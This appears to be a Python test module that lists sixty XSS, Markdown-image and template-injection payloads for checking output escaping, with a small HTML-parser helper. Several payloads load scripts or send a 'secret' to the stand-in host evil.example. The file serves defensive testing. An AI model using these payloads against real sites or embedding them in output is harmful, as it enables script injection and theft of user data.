"""Sixty texts that become more than text where they are not escaped: markup, templates, Markdown, what is not seen.

Each sets ``owned`` or asks for something from ``evil.example`` if it gets the chance. Kinds after OWASP's XSS Filter Evasion
Cheat Sheet and the attacks on chat pages that show what a model writes (EchoLeak, CVE-2025-32711).
"""

from __future__ import annotations

from html.parser import HTMLParser

PAYLOADS = (
    # scripts
    "<script>owned=1</script>",
    "<ScRiPt>owned=1</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x20type='text/javascript'>owned=1</script\n>",
    "</script><script>owned=1</script>",
    "</textarea><script>owned=1</script>",
    "</title></style><script>owned=1</script>",
    "<noscript><p title='</noscript><script>owned=1</script>'>",
    "<template><script>owned=1</script></template>",
    "<<script>owned=1//<</script>",
    # handlers
    "<img src=x onerror=owned=1>",
    "<img/src='x'/onerror='owned=1'>",
    "<svg onload=owned=1>",
    "<svg><script>owned=1</script></svg>",
    "<svg><animate onbegin=owned=1 attributeName=x dur=1s>",
    "<body onload=owned=1>",
    "<input autofocus onfocus=owned=1>",
    "<details open ontoggle=owned=1>",
    "<video><source onerror=owned=1></video>",
    "<audio src=x onerror=owned=1>",
    "<marquee onstart=owned=1>",
    "<div style='animation:x' onanimationstart=owned=1>",
    "<button autofocus onfocus=owned=1>press</button>",
    "<select autofocus onfocus=owned=1>",
    # out of an attribute
    '" onmouseover="owned=1',
    "' onmouseover='owned=1",
    '"><img src=x onerror=owned=1>',
    "'><svg onload=owned=1>",
    "` onmouseover=owned=1 x=`",
    '"/autofocus/onfocus=owned=1 x="',
    # what loads by itself
    "<iframe src=javascript:owned=1></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<div style=background:url(https://evil.example/x)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<img srcset='https://evil.example/x 1x'>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<form action=https://evil.example/><input type=submit autofocus></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned=1>",
    # links
    "<a href=javascript:owned=1>press</a>",
    "<a href='data:text/html,<script>owned=1</script>'>press</a>",
    "[press](javascript:owned=1)",
    "<javascript:owned=1>",
    # Markdown, tables, formulas
    "![x](https://evil.example/x.png?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://evil.example/)",
    "```html\n<img src=x onerror=owned=1>\n```",
    "| a |\n|---|\n| <img src=x onerror=owned=1> |",
    "$$\\href{javascript:owned=1}{x}$$ \\(\\url{https://evil.example}\\)",
    # templates
    "${owned=1} {{owned=1}} {{{owned=1}}} <%= owned=1 %> #{owned=1}",
    "{{constructor.constructor('owned=1')()}}",
    "{{#each x}}{{/each}} {{> x}} @children",
    # entities and what is not seen
    "&lt;script&gt;owned=1&lt;/script&gt; &#60;img src=x onerror=owned=1&#62;",
    "\\u003cimg src=x onerror=owned=1\\u003e \\x3cscript\\x3eowned=1\\x3c/script\\x3e",
    "<scr\u200bipt>owned=1</scr\u200bipt> <\u202eimg src=x onerror=owned=1>",
    "\x1b]0;owned\x07\x1b[31m\x00<img\x00 src=x onerror=owned=1>",
)


class Seen(HTMLParser):
    """What a browser would make of HTML: its elements with their attributes, and its text."""

    def __init__(self, html):
        super().__init__()
        self.elements, self.text = [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    @property
    def shape(self):
        """The elements with the names of their attributes alone."""
        return [(tag, tuple(attributes)) for tag, attributes in self.elements]
